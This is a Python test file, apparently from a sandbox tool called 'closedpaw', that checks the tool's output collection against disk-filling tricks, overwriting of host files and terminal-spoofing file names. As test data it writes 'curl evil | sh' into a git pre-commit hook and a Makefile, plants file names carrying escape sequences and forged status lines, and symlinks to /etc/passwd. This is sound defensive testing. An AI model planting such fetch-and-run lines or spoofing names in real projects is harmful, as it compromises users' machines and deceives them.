"""/output attacks on the host: amplifying a few stored bytes into gigabytes on the host disk
(sparse files, hard-link fan-out, a file that keeps growing while a live sandbox is
collected), replacing the user's files (``--output .`` over a project's Makefile or
.git/hooks), and names that carry terminal escape sequences or forged ``closedpaw:`` lines to
the user's terminal. Each runs on both runtimes."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

from adversarial_support import MIB, findings, probe_argv, spec

from closedpaw.sandbox.lifecycle.manager import SandboxManager
from tests.conftest import TEST_CGROUP, sandbox_settings, settled_leftovers


def _stored(root: Path) -> int:
    """Bytes really allocated under ``root`` on the host (what fills a disk)."""
    total = 0
    for dirpath, dirs, files in os.walk(root):
        for n in (*dirs, *files):
            total += os.lstat(os.path.join(dirpath, n)).st_blocks * 512
    return total


def test_sparse_files_are_not_expanded_on_the_host(mgr: SandboxManager, runtime: str,
                                                   tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    free_before = shutil.disk_usage(tmp_path).free
    body = """
    def sparse(name, size, at=None):
        with open(name, "wb") as f:
            f.truncate(size)
            if at is not None:
                f.seek(at)
                f.write(b"data")
        return os.stat(name).st_blocks * 512
    probe("3g", lambda: sparse("/output/3g", 3 << 30, 1 << 30))
    probe("8eib", lambda: sparse("/output/8eib", (1 << 63) - 1))
    probe("small", lambda: sparse("/output/small", 16 << 20, 8 << 20))
    emit()
    """
    t0 = time.monotonic()
    r = mgr.run(probe_argv(body), spec(timeout_s=30, output_dir_mb=64, output_dir=dest),
                runtime=runtime)
    took = time.monotonic() - t0
    f = findings(r)
    assert f["3g"]["ok"] and f["small"]["ok"], f
    skipped = {s.path: s.reason for s in r.skipped_files}
    assert "exceeds the output cap" in skipped["3g"], skipped
    if f["8eib"]["ok"]:    # the Sentry may refuse a file that large itself (EFBIG)
        assert "exceeds the output cap" in skipped["8eib"], skipped
    assert list(r.output_files) == ["small"]
    small = (dest / "small").read_bytes()
    assert len(small) == 16 << 20 and small[8 << 20:(8 << 20) + 4] == b"data"
    assert sorted(os.listdir(dest)) == ["small"]
    assert _stored(dest) < 2 * MIB, _stored(dest)          # the holes stayed holes
    assert free_before - shutil.disk_usage(tmp_path).free < 32 * MIB
    assert took < 25, took


def test_hard_link_fan_out_is_copied_once(mgr: SandboxManager, runtime: str,
                                          tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    body = """
    with open("/output/big", "wb") as f:
        f.write(os.urandom(6 << 20))
    os.makedirs("/output/d")
    for i in range(31):
        os.link("/output/big", f"/output/d/l{i:02}")
    probe("nlink", lambda: os.stat("/output/big").st_nlink)
    emit()
    """
    r = mgr.run(probe_argv(body), spec(timeout_s=30, output_dir_mb=8, output_dir=dest),
                runtime=runtime)
    assert findings(r)["nlink"]["value"] == 32
    assert list(r.output_files) == ["big"]
    links = [s for s in r.skipped_files if s.path.startswith("d/l")]
    assert len(links) == 31 and all(s.reason == "hard link to big (copied once)"
                                    for s in links), r.skipped_files
    assert _stored(dest) < 8 * MIB, _stored(dest)
    assert os.listdir(dest / "d") == []


GROW = r"""
import os
chunk = b"g" * (1 << 20)
while True:
    try:
        with open("/output/grow", "ab") as f:
            f.write(chunk)
    except OSError:          # the tmpfs is full: start over with a fresh file
        os.unlink("/output/grow")
"""


def test_collect_of_a_live_sandbox_is_bounded_while_files_change(
        mgr: SandboxManager, runtime: str, tmp_path: Path) -> None:
    cap_mb = 8
    sp = spec(timeout_s=20, output_dir_mb=cap_mb, output_dir=tmp_path / "unused")
    with mgr.create(sp, runtime=runtime) as sb:
        sb.exec(["sh", "-c", f"nohup python3 -c '{GROW}' >/dev/null 2>&1 </dev/null &"])
        time.sleep(0.5)
        outcomes = set()
        for i in range(6):
            dest = tmp_path / f"c{i}"
            t0 = time.monotonic()
            copied, skipped = sb.files.collect(dest, timeout_s=10)
            assert time.monotonic() - t0 < 15
            assert _stored(dest) <= cap_mb * MIB, (i, _stored(dest))
            assert sum(p.stat().st_size for p in dest.iterdir()) <= cap_mb * MIB
            assert set(os.listdir(dest)) <= {"grow"}, os.listdir(dest)  # no temporary files
            assert copied == ["grow"] or [s.path for s in skipped] in (["grow"], []), (
                copied, skipped)
            outcomes.add("copied" if copied else skipped[0].reason if skipped else "absent")
        assert outcomes, outcomes


def test_output_never_replaces_the_users_files(mgr: SandboxManager, runtime: str,
                                               tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / ".git/hooks").mkdir(parents=True)
    (project / "Makefile").write_text("all:\n\ttrue\n")
    (project / "README").write_text("mine\n")
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    body = """
    os.makedirs("/output/.git/hooks")
    with open("/output/.git/hooks/pre-commit", "w") as f:
        f.write("#!/bin/sh\\ncurl evil | sh\\n")
    with open("/output/Makefile", "w") as f:
        f.write("all:\\n\\tcurl evil | sh\\n")
    os.mkdir("/output/README")
    with open("/output/new.txt", "w") as f:
        f.write("new\\n")
    emit()
    """
    r = mgr.run(probe_argv(body), spec(timeout_s=30, output_dir=project), runtime=runtime)
    findings(r)
    assert list(r.output_files) == ["new.txt"]
    skipped = {s.path: s.reason for s in r.skipped_files}
    assert set(skipped) == {".git/", "Makefile", "README/"}, skipped
    assert all("exists on the host" in why for why in skipped.values()), skipped
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file()
            and p.name != "new.txt"} == before
    assert not (project / ".git/hooks/pre-commit").exists()

    r = mgr.run(probe_argv(body), spec(timeout_s=30, output_dir=project, output_overwrite=True),
                runtime=runtime)
    assert sorted(r.output_files) == [".git/hooks/pre-commit", "Makefile", "new.txt"]
    assert [(s.path, s.reason) for s in r.skipped_files] == [
        ("README/", "destination exists and is not a directory (or is a symbolic link)")]
    assert "curl evil" in (project / "Makefile").read_text()
    assert (project / "README").read_text() == "mine\n"


CLI = str(Path(sys.executable).with_name("closedpaw"))


def _cli(*args: str) -> subprocess.CompletedProcess[bytes]:
    env = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin",
           "CLOSEDPAW_STATE_DIR": str(sandbox_settings().state_dir),
           "CLOSEDPAW_DATA_DIR": str(sandbox_settings().data_dir),
           "CLOSEDPAW_CGROUP_PARENT": TEST_CGROUP}
    try:
        return subprocess.run([CLI, *args], capture_output=True, env=env, timeout=120,
                              check=False)
    finally:
        left = settled_leftovers(sandbox_settings())
        assert not left, left


NAMES = r"""
import os
names = ["x\nclosedpaw: all files copied", "\x1b]0;pwned\x07title", "\x1b[2J\x1b[Hclear",
         "bell\x07", "\u202eexe.txt", "cr\rclosedpaw: ok", "del\x7f", "c1\x9bmove"]
for n in names:
    os.symlink("/etc/passwd", "/output/" + n)   # links are reported by name
with open("/output/Makefile", "w") as f:
    f.write("evil\n")
os.mkdir("/output/d\x1b[31m")
with open("/output/d\x1b[31m/f", "w") as f:
    f.write("f\n")
"""


def test_cli_escapes_names_and_refuses_overwrite(runtime: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "Makefile").write_text("mine\n")
    p = _cli("run", "--runtime", runtime, "--output", str(out), "--", "python3", "-c", NAMES)
    assert p.returncode == 0, p.stderr
    err = p.stderr
    for bad in (b"\x1b", b"\x07", b"\r", b"\x7f", b"\x9b", b"\xc2\x9b", "\u202e".encode()):
        assert bad not in err, (bad, err)
    lines = err.decode().splitlines()
    assert all(ln.startswith("closedpaw: /output/") for ln in lines), lines
    assert len(lines) == 9, lines      # 8 names and the Makefile, one line each
    assert "closedpaw: /output/x\\nclosedpaw: all files copied not copied: symbolic link" \
        " (not copied)" in lines
    assert "closedpaw: /output/\\x1b]0;pwned\\x07title not copied: symbolic link (not copied)" \
        in lines
    assert any(ln.startswith("closedpaw: /output/Makefile not copied: exists on the host")
               for ln in lines), lines
    assert (out / "Makefile").read_text() == "mine\n"
    assert (out / "d\x1b[31m" / "f").read_text() == "f\n"

    p = _cli("run", "--runtime", runtime, "--output", str(out), "--overwrite", "--", "sh", "-c",
             "echo new > /output/Makefile")
    assert p.returncode == 0 and p.stderr == b"", p.stderr
    assert (out / "Makefile").read_text() == "new\n"
    p = _cli("run", "--runtime", runtime, "--overwrite", "--", "true")
    assert p.returncode == 2 and b"--overwrite needs --output" in p.stderr
